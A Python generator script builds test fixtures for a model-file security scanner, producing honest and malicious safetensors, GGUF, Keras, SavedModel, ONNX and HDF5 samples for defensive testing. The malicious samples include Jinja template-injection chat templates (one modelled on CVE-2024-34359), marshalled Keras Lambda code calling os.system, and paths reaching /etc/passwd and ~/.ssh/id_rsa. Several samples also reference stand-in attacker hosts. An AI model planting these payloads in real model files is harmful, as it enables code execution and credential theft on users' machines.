#!/usr/bin/python3
"""Generate the formats3 test files (safetensors, GGUF, Keras config, ONNX, SavedModel).

Run with Debian's /usr/bin/python3 from this directory: ./gen_formats3.py
Honest files come from the real writers where Debian has them (torch.onnx.export,
onnx.helper + onnx.external_data_helper, torch.save); safetensors, GGUF and the
TensorFlow protobufs are written with struct/json following their specs because
Debian packages no writer for them. Malicious files carry inert payloads only
(`id`, `touch /tmp/x`): they are never loaded by the tests, only scanned.
The output is committed; rerunning must reproduce it (no timestamps, fixed seeds).
"""
import base64
import io
import json
import marshal
import os
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def out(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- safetensors
DT = {"F32": 4, "F16": 2, "I64": 8, "U8": 1}


def st_file(tensors, metadata=None, header_override=None, extra=b"", pad=True):
    """tensors: list of (name, dtype, shape, begin, end); data zero-filled to the max end."""
    hdr = {}
    if metadata is not None:
        hdr["__metadata__"] = metadata
    end = 0
    for name, dt, shape, b, e in tensors:
        hdr[name] = {"dtype": dt, "shape": shape, "data_offsets": [b, e]}
        end = max(end, e)
    js = header_override if header_override is not None else json.dumps(hdr, separators=(",", ":"))
    js = js.encode()
    if pad:
        js += b" " * ((8 - len(js) % 8) % 8)
    return struct.pack("<Q", len(js)) + js + bytes(end) + extra


def gen_safetensors():
    ok = [("a.weight", "F32", [2, 3], 0, 24), ("a.bias", "F32", [3], 24, 36), ("ids", "I64", [2], 36, 52)]
    out("st_honest.safetensors", st_file(ok, {"format": "pt"}))
    out("st_honest_empty.safetensors", st_file([], None))
    out("st_overlap.safetensors", st_file([("a", "F32", [2], 0, 8), ("b", "F32", [2], 4, 12)]))
    out("st_gap.safetensors", st_file([("a", "F32", [2], 0, 8), ("b", "F32", [2], 16, 24)]))
    out("st_trailing.safetensors", st_file([("a", "F32", [2], 0, 8)], extra=b"PK\x03\x04hidden payload"))
    out("st_size_mismatch.safetensors", st_file([("a", "F32", [4, 4], 0, 8)]))
    out("st_oob.safetensors", st_file([("a", "F32", [2], 0, 8)])[:-4] +
        b"")  # data shorter than the offsets
    f = bytearray(st_file([("a", "F32", [2], 0, 8)]))
    f[0:8] = struct.pack("<Q", 1 << 40)
    out("st_header_bounds.safetensors", bytes(f))
    dup = '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},' \
          '"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    out("st_dup_key.safetensors", st_file([("a", "F32", [2], 0, 8)], header_override=dup))
    out("st_bad_dtype.safetensors", st_file([("a", "PYOBJ", [2], 0, 8)]))
    out("st_bad_shape.safetensors", st_file([("a", "F32", [-2], 0, 8)]))
    out("st_overflow.safetensors", st_file([("a", "F32", [1 << 62, 1 << 62], 0, 8)]))
    out("st_meta_nonstring.safetensors", st_file([("a", "F32", [2], 0, 8)], {"n": 3, "nested": {"x": "y"}}))
    out("st_meta_code.safetensors", st_file([("a", "F32", [2], 0, 8)],
                                            {"init": "import os; os.system('id')"}))
    out("st_json_invalid.safetensors", st_file([("a", "F32", [2], 0, 8)],
                                               header_override='{"a":{"dtype":"F32",'))
    out("st_meta_url.safetensors", st_file([("a", "F32", [2], 0, 8)],
                                           {"format": "pt", "source": "see http://attacker.invalid/x"}))
    out("st_meta_many.safetensors", st_file([("a", "F32", [2], 0, 8)],
                                            {"k%04d" % i: "v" for i in range(4097)}))
    bad = '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"loader":"pickle"}}'
    out("st_bad_tensor_info.safetensors", st_file([("a", "F32", [2], 0, 8)], header_override=bad))


# ---------------------------------------------------------------- GGUF
T_U8, T_I8, T_U16, T_I16, T_U32, T_I32, T_F32, T_BOOL, T_STR, T_ARR, T_U64, T_I64, T_F64 = range(13)

CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + "
          "'<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}"
          "{% endif %}")
# Honest Llama-3-style template with namespace(), loop variables, raise_exception and tojson.
LLAMA3 = ("{% set ns = namespace(system='') %}{{- bos_token }}{%- for message in messages %}"
          "{%- if message['role'] == 'system' %}{%- set ns.system = message['content'] %}"
          "{%- elif (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
          "{{- raise_exception('Conversation roles must alternate user/assistant') }}"
          "{%- else %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + "
          "message['content'] | trim + '<|eot_id|>' }}{%- endif %}{%- endfor %}"
          "{%- if tools %}{{- tools | tojson(indent=4) }}{%- endif %}")
# CVE-2024-34359 (llama-cpp-python) proof-of-concept shape, command made inert.
SSTI_CVE = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
            "{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}")
SSTI_ATTR = "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"
SSTI_CYCLER = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
SSTI_LIPSUM = "{% if messages %}{{ lipsum['__glo' + 'bals__'] }}{% endif %}"


def g_str(s, v=3):
    b = s.encode() if isinstance(s, str) else s
    return (struct.pack("<I", len(b)) if v == 1 else struct.pack("<Q", len(b))) + b


def g_val(t, v, ver=3):
    if t == T_STR:
        return g_str(v, ver)
    if t == T_ARR:
        et, items = v
        b = struct.pack("<I", et) + (struct.pack("<I", len(items)) if ver == 1 else struct.pack("<Q", len(items)))
        return b + b"".join(g_val(et, i, ver) for i in items)
    fmt = {T_U8: "<B", T_I8: "<b", T_U16: "<H", T_I16: "<h", T_U32: "<I", T_I32: "<i", T_F32: "<f",
           T_BOOL: "<?", T_U64: "<Q", T_I64: "<q", T_F64: "<d"}[t]
    return struct.pack(fmt, v)


GG_SIZE = {0: (1, 4), 1: (1, 2), 8: (32, 34)}


def gguf(kvs, tensors, ver=3, align=32, data_pad=0, raw_kv=b"", n_kv=None, n_t=None):
    """kvs: (key, type, value); tensors: (name, dims, ggml_type, offset or None)."""
    cnt = (lambda n: struct.pack("<I", n)) if ver == 1 else (lambda n: struct.pack("<Q", n))
    b = b"GGUF" + struct.pack("<I", ver) + cnt(len(tensors) if n_t is None else n_t) + \
        cnt(len(kvs) + (1 if raw_kv else 0) if n_kv is None else n_kv)
    for k, t, v in kvs:
        b += g_str(k, ver) + struct.pack("<I", t) + g_val(t, v, ver)
    b += raw_kv
    off = 0
    infos = b""
    total = 0
    for name, dims, gt, o in tensors:
        blck, ts = GG_SIZE.get(gt, (1, 1))
        n = 1
        for d in dims:
            n *= d
        nbytes = n // blck * ts
        if o is None:
            o = off
        infos += g_str(name, ver) + struct.pack("<I", len(dims)) + b"".join(
            struct.pack("<I" if ver == 1 else "<Q", d) for d in dims) + struct.pack("<IQ", gt, o)
        off = (o + nbytes + align - 1) // align * align
        total = max(total, o + nbytes)
    b += infos
    b += bytes((align - len(b) % align) % align)
    return b + bytes(total + data_pad)


def gen_gguf():
    base_kv = [("general.architecture", T_STR, "llama"), ("general.name", T_STR, "tiny"),
               ("general.alignment", T_U32, 32), ("llama.context_length", T_U32, 128),
               ("tokenizer.ggml.tokens", T_ARR, (T_STR, ["<s>", "</s>", "a", "b"])),
               ("tokenizer.ggml.scores", T_ARR, (T_F32, [0.0, 0.0, -1.0, -2.0])),
               ("nested.example", T_ARR, (T_ARR, [(T_U8, [1, 2]), (T_STR, ["x"])]))]
    tens = [("tok_embd.weight", [32, 4], 8, None), ("output_norm.weight", [32], 0, None)]
    out("gguf_honest.gguf", gguf(base_kv + [("tokenizer.chat_template", T_STR, CHATML)], tens))
    out("gguf_honest_llama3.gguf", gguf(base_kv + [("tokenizer.chat_template", T_STR, LLAMA3)], tens))
    out("gguf_honest_v1.gguf", gguf([("general.architecture", T_STR, "llama")], [("w", [4], 0, None)], ver=1))
    out("gguf_honest_v2.gguf", gguf([("general.architecture", T_STR, "llama")], [("w", [4], 0, None)], ver=2))
    out("gguf_ssti_cve.gguf", gguf(base_kv + [("tokenizer.chat_template", T_STR, SSTI_CVE)], tens))
    out("gguf_ssti_attr.gguf", gguf(base_kv + [("tokenizer.chat_template", T_STR, SSTI_ATTR)], tens))
    out("gguf_ssti_cycler.gguf", gguf(base_kv + [("tokenizer.chat_template.tool_use", T_STR, SSTI_CYCLER)], tens))
    out("gguf_ssti_lipsum.gguf", gguf(base_kv + [("tokenizer.chat_template", T_STR, SSTI_LIPSUM)], tens))
    inc = "{%- include '/etc/passwd' -%}{% for m in messages %}{{ m['content'] }}{% endfor %}"
    out("gguf_ssti_include.gguf", gguf(base_kv + [("tokenizer.chat_template", T_STR, inc)], tens))
    out("gguf_overlap.gguf", gguf(base_kv, [("a", [32], 0, 0), ("b", [32], 0, 64)]))
    out("gguf_oob.gguf", gguf(base_kv, [("a", [32], 0, 0)])[:-64])
    out("gguf_misaligned.gguf", gguf(base_kv, [("a", [32], 0, 4)], data_pad=32))
    out("gguf_dup_key.gguf", gguf(base_kv + [("general.name", T_STR, "other")], tens))
    out("gguf_dup_tensor.gguf", gguf(base_kv, [("a", [32], 0, None), ("a", [32], 0, None)]))
    out("gguf_bad_value_type.gguf", gguf(base_kv, tens, raw_kv=g_str("x.bad") + struct.pack("<I", 77)))
    out("gguf_ndims.gguf", gguf(base_kv, [("a", [1, 1, 1, 1, 32], 0, None)]))
    out("gguf_bad_ggml_type.gguf", gguf(base_kv, [("a", [32], 4, None)]))
    out("gguf_block_size.gguf", gguf(base_kv, [("a", [33], 8, None)]))
    out("gguf_count_bounds.gguf", gguf(base_kv, tens, n_kv=1 << 40))
    deep = (T_U8, [1])
    for _ in range(9):
        deep = (T_ARR, [deep])
    out("gguf_array_nesting.gguf", gguf(base_kv, tens, raw_kv=g_str("deep") + struct.pack("<I", T_ARR) +
                                        g_val(T_ARR, deep)))
    out("gguf_bad_alignment.gguf", gguf([("general.alignment", T_U32, 24)], [("a", [32], 0, None)], align=32))
    out("gguf_truncated.gguf", gguf(base_kv, tens)[:100])


# ---------------------------------------------------------------- Keras configs
def lambda_code_b64():
    fn = eval("lambda x: __import__('os').system('id')")  # never called: only its code is marshalled
    return base64.b64encode(marshal.dumps(fn.__code__)).decode()


def dense(name, units, module=True):
    d = {"class_name": "Dense", "config": {"name": name, "units": units, "activation":
                                           "relu", "use_bias": True}}
    if module:
        d["module"] = "keras.layers"
        d["registered_name"] = None
        d["config"]["kernel_initializer"] = {"module": "keras.initializers", "class_name": "GlorotUniform",
                                             "config": {"seed": None}, "registered_name": None}
    return d


def k3_model(layers, cls="Sequential"):
    return {"module": "keras", "class_name": cls, "config": {"name": "m", "trainable": True, "layers": layers},
            "registered_name": cls, "build_config": {"input_shape": [None, 4]},
            "compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                                             "config": {"learning_rate": 0.001}, "registered_name": None},
                               "loss": "mse"}}


KERAS_CFGS = {}  # name -> config object written by gen_keras (reused for .keras and .h5 forms)


def gen_keras():
    def j(o, name=None):
        if name is not None:
            KERAS_CFGS[name] = o
        return json.dumps(o, indent=1).encode()
    out("keras_honest_config.json", j(k3_model([
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"},
         "registered_name": None},
        dense("d1", 8), dense("d2", 1),
        {"module": "keras.layers", "class_name": "Activation", "config": {"name": "act", "activation": {
            "module": "keras.activations", "class_name": "function", "config": "sigmoid",
            "registered_name": "sigmoid"}}, "registered_name": None}]), "honest_config"))
    out("keras_honest_h5_model_config.json", j({"class_name": "Sequential", "keras_version": "2.12.0",
                                                "backend": "tensorflow", "config": {"name": "s", "layers": [
                                                    dense("d1", 4, module=False)]}}))
    code = lambda_code_b64()
    lam3 = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {
        "name": "evil", "function": {"class_name": "__lambda__",
                                     "config": {"code": code, "defaults": None, "closure": None}},
        "arguments": {}}}
    out("keras_lambda_k3.json", j(k3_model([dense("d1", 4), lam3]), "lambda_k3"))
    lam2 = {"class_name": "Lambda", "config": {"name": "lambda_1", "function": [code, None, None],
                                               "function_type": "lambda", "module": "__main__",
                                               "output_shape": None, "arguments": {}}}
    out("keras_lambda_h5_model_config.json", j({"class_name": "Sequential", "keras_version": "2.12.0",
                                                "backend": "tensorflow", "config": {"name": "s", "layers": [
                                                    dense("d1", 4, module=False), lam2]}}))
    # Lambda hidden three levels down: Functional > Sequential > TimeDistributed > Lambda
    inner = k3_model([{"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
                       "config": {"name": "td", "layer": lam3}}])
    out("keras_lambda_nested.json", j(k3_model([dense("d0", 4), inner], cls="Functional"), "lambda_nested"))
    named = {"class_name": "Lambda", "config": {"name": "l", "function": "system", "function_type": "function",
                                                "module": "os", "arguments": {}}}
    out("keras_lambda_named_fn.json", j({"class_name": "Sequential", "keras_version": "2.12.0",
                                         "config": {"name": "s", "layers": [named]}}, "lambda_named_fn"))
    ext = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    out("keras_external_module.json", j(k3_model([dense("d1", 4), {
        "module": "keras.layers", "class_name": "Activation", "registered_name": None,
        "config": {"name": "a", "activation": ext}}]), "external_module"))
    gf = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    out("keras_get_file.json", j(k3_model([dense("d1", 4), {
        "module": "keras.layers", "class_name": "Activation", "registered_name": None,
        "config": {"name": "a", "activation": gf}}]), "get_file"))
    act = {"module": "keras.layers", "class_name": "Activation", "registered_name": None,
           "config": {"name": "a", "activation": {"class_name": "__lambda__", "config": {"value": [code, None, None]}}}}
    out("keras_lambda_arg.json", j(k3_model([dense("d1", 4), act]), "lambda_arg"))
    un = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
          "registered_name": None}
    out("keras_unsafe_deser.json", j(k3_model([{"module": "keras.layers", "class_name": "Activation",
                                                "registered_name": None,
                                                "config": {"name": "a", "activation": un}}, lam3]), "unsafe_deser"))
    try:
        import torch
        buf = io.BytesIO()
        torch.manual_seed(0)
        torch.save(torch.nn.Linear(2, 2), buf)
        blob = base64.b64encode(buf.getvalue()).decode()
    except Exception as e:  # torch is a documented dependency of this generator
        sys.exit("torch needed for TorchModuleWrapper sample: %s" % e)
    out("keras_torch_wrapper.json", j(k3_model([{"module": "keras.layers", "class_name": "TorchModuleWrapper",
                                                 "registered_name": None,
                                                 "config": {"name": "tw", "module": blob}}]), "torch_wrapper"))
    # 600 nested wrappers: written as text (json.dumps itself recurses)
    pre = '{"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": '
    out("keras_deep.json", (pre * 600 + json.dumps(dense("leaf", 1)) + "}}" * 600).encode())
    out("keras_invalid.json", b'{"class_name": "Sequential", "config": {')


# ---------------------------------------------------------------- protobuf writer
def varint(v):
    b = bytearray()
    while True:
        c = v & 0x7F
        v >>= 7
        if v:
            b.append(c | 0x80)
        else:
            b.append(c)
            return bytes(b)


def pb_len(num, payload):
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def pb_var(num, v):
    return varint(num << 3) + varint(v)


# ---------------------------------------------------------------- SavedModel
def attr_s(key, s):
    return pb_len(5, pb_len(1, key) + pb_len(2, pb_len(2, s)))  # NodeDef.attr map entry -> AttrValue.s


def attr_list_s(key, items):
    lst = b"".join(pb_len(2, s) for s in items)
    return pb_len(5, pb_len(1, key) + pb_len(2, pb_len(1, lst)))  # AttrValue.list.s


def node(name, op, *extra):
    return pb_len(1, name) + pb_len(2, op) + b"".join(extra)


def saved_model(graph_nodes, functions=()):
    g = b"".join(pb_len(1, n) for n in graph_nodes)
    if functions:
        lib = b""
        for fname, fnodes in functions:
            fd = pb_len(1, pb_len(1, fname)) + b"".join(pb_len(3, n) for n in fnodes)
            lib += pb_len(1, fd)
        g += pb_len(2, lib)
    g += pb_len(4, pb_var(1, 1087))  # GraphDef.versions (VersionDef.producer)
    meta = pb_len(1, pb_len(4, "serve")) + pb_len(2, g)  # meta_info_def.tags, graph_def
    return pb_var(1, 1) + pb_len(2, meta)


def gen_savedmodel():
    honest = [node("x", "Placeholder"), node("w", "VarHandleOp"), node("mm", "MatMul"),
              node("saver/filename", "Const"), node("saver/SaveV2", "SaveV2"),
              node("saver/RestoreV2", "RestoreV2"), node("saver/Merge", "MergeV2Checkpoints"),
              node("table", "InitializeTableFromTextFileV2")]
    out("sm_honest.pb", saved_model(honest, [("__inference_call_1", [node("a", "AddV2"), node("r", "Relu")])]))
    out("sm_pyfunc.pb", saved_model(honest + [node("bad", "PyFunc", attr_s("token", "pyfunc_0"))]))
    out("sm_fileio_in_function.pb", saved_model(honest, [("__inference_leak_2", [
        node("rf", "ReadFile"), node("wf", "WriteFile"), node("mf", "MatchingFiles")])]))
    out("sm_debug.pb", saved_model(honest + [node("dbg", "DebugIdentity",
                                                  attr_list_s("debug_urls", ["grpc://attacker:6064"]))]))
    out("sm_printv2_file.pb", saved_model(honest + [node("p", "PrintV2", attr_s("output_stream",
                                                                               "file:///tmp/leak.txt"))]))
    out("sm_printv2_stderr.pb", saved_model(honest + [node("p", "PrintV2", attr_s("output_stream", "stderr"))]))
    out("sm_truncated.pb", saved_model(honest + [node("bad", "EagerPyFunc")])[:-3])
    out("sm_network.pb", saved_model(honest, [("__inference_exfil_3", [
        node("cl", "RpcClient", attr_s("shared_name", "c")), node("call", "RpcCall")])]))
    out("sm_immutable_const.pb", saved_model(honest + [node("ic", "ImmutableConst",
                                                            attr_s("memory_region_name", "/etc/shadow"))]))
    out("sm_dataset_io.pb", saved_model(honest, [("__inference_ds_4", [
        node("csv", "CSVDatasetV2"), node("sql", "SqlDataset"), node("save", "SaveDatasetV2"),
        node("rec", "DatasetToTFRecord")])]))
    out("sm_debug_v3.pb", saved_model(honest + [node("dbg", "DebugIdentityV3",
                                                     attr_list_s("debug_urls", ["file:///tmp/dump"]))]))
    out("sm_proto_desc_file.pb", saved_model(honest + [node("dp", "DecodeProtoV2",
                                                            attr_s("descriptor_source", "/etc/passwd"))]))
    # honest: the default descriptor pool and an inline descriptor set
    out("sm_proto_desc_local.pb", saved_model(honest + [
        node("dp", "DecodeProtoV2", attr_s("descriptor_source", "local://")),
        node("ep", "EncodeProto", attr_s("descriptor_source", "bytes://\n\x00"))]))
    # keras_metadata.pb
    lam_meta = json.dumps({"name": "lambda", "trainable": True, "expects_training_arg": False,
                           "class_name": "Lambda", "config": {"name": "lambda", "function": [lambda_code_b64(),
                                                                                            None, None],
                                                              "function_type": "lambda",
                                                              "module": "__main__"}})
    dense_meta = json.dumps({"name": "dense", "trainable": True, "class_name": "Dense",
                             "config": {"name": "dense", "units": 4}})
    model_meta = json.dumps({"name": "model", "class_name": "Sequential", "keras_version": "2.12.0",
                             "backend": "tensorflow", "config": {"name": "model", "layers": []}})

    def obj(nid, path, ident, meta):
        return pb_len(1, pb_var(2, nid) + pb_len(3, path) + pb_len(4, ident) + pb_len(5, meta) +
                      pb_len(6, pb_var(1, 2)))
    out("km_honest.pb", obj(0, "root", "_tf_keras_sequential", model_meta) +
        obj(1, "root.layer-0", "_tf_keras_layer", dense_meta))
    out("km_lambda.pb", obj(0, "root", "_tf_keras_sequential", model_meta) +
        obj(1, "root.layer-0", "_tf_keras_layer", dense_meta) +
        obj(2, "root.layer-1", "_tf_keras_layer", lam_meta))


# ---------------------------------------------------------------- ONNX
def gen_onnx():
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    import torch

    torch.manual_seed(0)

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.c = torch.nn.Conv2d(1, 2, 3)
            self.f = torch.nn.Linear(2 * 6 * 6, 3)

        def forward(self, x):
            return self.f(torch.relu(self.c(x)).flatten(1))

    buf = io.BytesIO()
    torch.onnx.export(Net().eval(), torch.zeros(1, 1, 8, 8), buf, opset_version=13)
    out("onnx_honest_cnn.onnx", buf.getvalue())

    def model(nodes, inits=(), functions=(), opsets=(("", 13),)):
        g = helper.make_graph(list(nodes), "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], list(inits))
        m = helper.make_model(g, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
                              functions=list(functions), producer_name="bulwark-tests")
        m.ir_version = 8
        return m

    w = numpy_helper.from_array(np.arange(4, dtype=np.float32), "w")

    def ext_model(location, length=None):
        t = TensorProto()
        t.name = "w"
        t.data_type = TensorProto.FLOAT
        t.dims.extend([4])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", str(length if length else 16))):
            e = t.external_data.add()
            e.key, e.value = k, v
        return model([helper.make_node("Add", ["x", "w"], ["y"])], [t])

    out("onnx_honest_add.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], [w]).SerializeToString())
    # honest external data written by onnx itself
    m = model([helper.make_node("Add", ["x", "w"], ["y"])], [numpy_helper.from_array(
        np.arange(4096, dtype=np.float32), "w")])
    if os.path.exists(os.path.join(HERE, "onnx_honest_external.bin")):
        os.unlink(os.path.join(HERE, "onnx_honest_external.bin"))  # onnx appends to an existing file
    onnx.save_model(m, os.path.join(HERE, "onnx_honest_external.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="onnx_honest_external.bin", size_threshold=0)
    out("onnx_ext_abs.onnx", ext_model("/etc/passwd").SerializeToString())
    out("onnx_ext_dotdot.onnx", ext_model("weights/../../../home/user/.ssh/id_rsa").SerializeToString())
    out("onnx_ext_length.onnx", ext_model("w.bin", length=99).SerializeToString())
    out("onnx_custom_domain.onnx", model([helper.make_node("EvilOp", ["x"], ["y"], domain="com.attacker.ops")],
                                         opsets=(("", 13), ("com.attacker.ops", 1))).SerializeToString())
    fn = helper.make_function("local.fns", "Twice", ["a"], ["b"], [helper.make_node("Add", ["a", "a"], ["b"])],
                              [helper.make_opsetid("", 13)])
    out("onnx_honest_local_function.onnx", model([helper.make_node("Twice", ["x"], ["y"], domain="local.fns")],
                                                 functions=[fn], opsets=(("", 13), ("local.fns", 1)))
        .SerializeToString())
    bad = TensorProto()
    bad.name = "w"
    bad.data_type = TensorProto.FLOAT
    bad.dims.extend([1000, 1000])
    bad.raw_data = bytes(16)
    out("onnx_size_mismatch.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], [bad])
        .SerializeToString())
    # a custom-domain op and an external path hidden in an If branch
    then_g = helper.make_graph([helper.make_node("Leak", ["x"], ["y"], domain="com.attacker.ops")], "then", [],
                               [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "else", [],
                               [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    out("onnx_nested_custom.onnx", model([helper.make_node("Constant", [], ["c"], value=helper.make_tensor(
        "c", TensorProto.BOOL, [], [True])), helper.make_node("If", ["c"], ["y"], then_branch=then_g,
                                                             else_branch=else_g)]).SerializeToString())
    # If bodies nested 80 deep (built bottom-up, no recursion)
    g = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "leaf", [],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    leaf = g
    for i in range(80):
        g = helper.make_graph([helper.make_node("If", ["c"], ["y"], then_branch=g, else_branch=leaf)], "l%d" % i,
                              [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    out("onnx_deep_nesting.onnx", model([helper.make_node("If", ["c"], ["y"], then_branch=g, else_branch=leaf)])
        .SerializeToString())


# ---------------------------------------------------------------- Keras HDF5
def gen_h5():
    import h5py
    import numpy as np

    cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": [dense("d1", 4, module=False)]}}
    lam = {"class_name": "Sequential", "config": {"name": "s", "layers": [
        dense("d1", 4, module=False),
        {"class_name": "Lambda", "config": {"name": "lambda_1", "function": [lambda_code_b64(), None, None],
                                            "function_type": "lambda", "module": "__main__",
                                            "output_shape": None, "arguments": {}}}]}}
    train = {"loss": "mse", "metrics": ["mae"], "optimizer_config": {"class_name": "Adam",
                                                                      "config": {"learning_rate": 0.001}}}

    def write(name, model_cfg, libver="earliest", fixed=False, extra_attrs=0):
        path = os.path.join(HERE, name)
        # no object timestamps, so the output is reproducible
        fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
        fcpl.set_obj_track_times(False)
        fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
        lv = h5py.h5f.LIBVER_LATEST if libver == "latest" else h5py.h5f.LIBVER_EARLIEST
        fapl.set_libver_bounds(lv, h5py.h5f.LIBVER_LATEST)
        fid = h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl, fapl=fapl)
        with h5py.File(fid) as f:
            text = json.dumps(model_cfg)
            f.attrs["backend"] = "tensorflow"
            f.attrs["keras_version"] = "2.12.0"
            f.attrs["model_config"] = np.bytes_(text.encode()) if fixed else text
            f.attrs["training_config"] = json.dumps(train)
            for i in range(extra_attrs):
                f.attrs["pad_%02d" % i] = "x" * 16
            # weights are irrelevant here (and datasets carry timestamps); an empty group stands in
            gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
            gcpl.set_obj_track_times(False)
            h5py.h5g.create(f.id, b"model_weights", gcpl=gcpl)

    write("h5_honest.h5", cfg)
    write("h5_honest_fixed.h5", cfg, fixed=True)
    write("h5_honest_latest.h5", cfg, libver="latest")
    write("h5_lambda.h5", lam)
    write("h5_lambda_fixed.h5", lam, fixed=True)
    write("h5_lambda_latest.h5", lam, libver="latest")
    write("h5_lambda_many_attrs.h5", lam, extra_attrs=40)
    write("h5_dense_attrs.h5", lam, libver="latest", extra_attrs=40)


# ---------------------------------------------------------------- Keras files (.keras zip, legacy .h5)
def h5_bytes(fill):
    """A small HDF5 file from h5py, reproducible (no object timestamps); fill(f) adds content."""
    import tempfile

    import h5py
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "w.h5")
        fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
        fcpl.set_obj_track_times(False)
        fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
        fapl.set_libver_bounds(h5py.h5f.LIBVER_EARLIEST, h5py.h5f.LIBVER_LATEST)
        fid = h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl, fapl=fapl)
        with h5py.File(fid) as f:
            fill(f)
        with open(path, "rb") as fh:
            return fh.read()


def gen_keras_files():
    """Every Keras config check in both file forms a loader opens: a Keras 3 `.keras` zip
    (config.json beside metadata.json and a real model.weights.h5) and a legacy `.h5`
    whose root attribute model_config holds the same JSON (what keras.models.load_model
    reads in either case). Plus a Keras 2 nested sub-model in `.h5` form."""
    import numpy as np

    def weights(f):
        f.create_dataset("layers/dense/vars/0", data=np.arange(32, dtype=np.float32).reshape(4, 8),
                         track_times=False)

    wbytes = h5_bytes(weights)
    meta = json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"}).encode()
    for name, cfg in sorted(KERAS_CFGS.items()):
        base = "honest" if name == "honest_config" else name
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for member, data in (("metadata.json", meta), ("config.json", json.dumps(cfg).encode()),
                                 ("model.weights.h5", wbytes)):
                zi = zipfile.ZipInfo(member, date_time=(1980, 1, 1, 0, 0, 0))
                zi.compress_type = zipfile.ZIP_DEFLATED
                z.writestr(zi, data)
        out("kz_%s.keras" % base, buf.getvalue())
        if base == "honest":
            continue  # h5_honest.h5 exists (gen_h5)

        def legacy(f, cfg=cfg):
            f.attrs["backend"] = "tensorflow"
            f.attrs["keras_version"] = "3.3.3"
            f.attrs["model_config"] = json.dumps(cfg)
            weights(f)
        out("h5_%s.h5" % base, h5_bytes(legacy))
    # Keras 2: Functional > Sequential sub-model > TimeDistributed > Lambda
    lam2 = {"class_name": "Lambda", "config": {"name": "lambda_1", "function": [lambda_code_b64(), None, None],
                                               "function_type": "lambda", "module": "__main__",
                                               "output_shape": None, "arguments": {}}}
    sub = {"class_name": "Sequential", "config": {"name": "inner", "layers": [
        {"class_name": "TimeDistributed", "config": {"name": "td", "layer": lam2}}]}}
    k2 = {"class_name": "Functional", "config": {"name": "outer", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 3, 4], "name": "in"},
         "name": "in", "inbound_nodes": []},
        {"class_name": "Sequential", "config": sub["config"], "name": "inner",
         "inbound_nodes": [[["in", 0, 0, {}]]]}],
        "input_layers": [["in", 0, 0]], "output_layers": [["inner", 0, 0]]}}

    def legacy2(f):
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["model_config"] = json.dumps(k2)
    out("h5_k2_nested_submodel.h5", h5_bytes(legacy2))


def main():
    gen_safetensors()
    gen_h5()
    gen_gguf()
    gen_keras()
    gen_keras_files()
    gen_savedmodel()
    gen_onnx()


if __name__ == "__main__":
    main()
